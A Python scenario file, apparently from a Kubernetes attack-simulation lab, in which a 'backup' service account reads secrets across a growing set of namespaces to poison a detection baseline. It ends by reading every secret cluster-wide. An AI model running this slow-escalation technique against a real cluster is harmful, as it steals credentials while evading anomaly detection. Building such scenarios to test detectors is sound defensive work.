"""A backup account reads a little more every time, until reading everything is its habit; then it reads everything."""

from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.pod("backup", "backup")
    spaces = ["backup", "monitoring", "ci", "shop", "data", "payments"]
    for count in range(1, len(spaces)):
        with stage.step(f"read {count} namespaces", thief, "defense-evasion", ("J01",)):
            for space in spaces[:count]:
                thief.get(f"/api/v1/namespaces/{space}/configmaps")
                thief.get(f"/api/v1/namespaces/{space}/secrets?limit=1")
    with stage.step("read everything", thief, "credential-access", ("F04", "F05", "F08", "J01")):
        for space in spaces:
            stage.must(thief.get(f"/api/v1/namespaces/{space}/secrets"))
        thief.get("/api/v1/secrets")


SCENARIO = Scenario(
    "boiling-frog",
    "A baseline is poisoned step by step",
    "attack",
    "make theft a habit",
    ("T1562", "T1552.007"),
    _play,
)
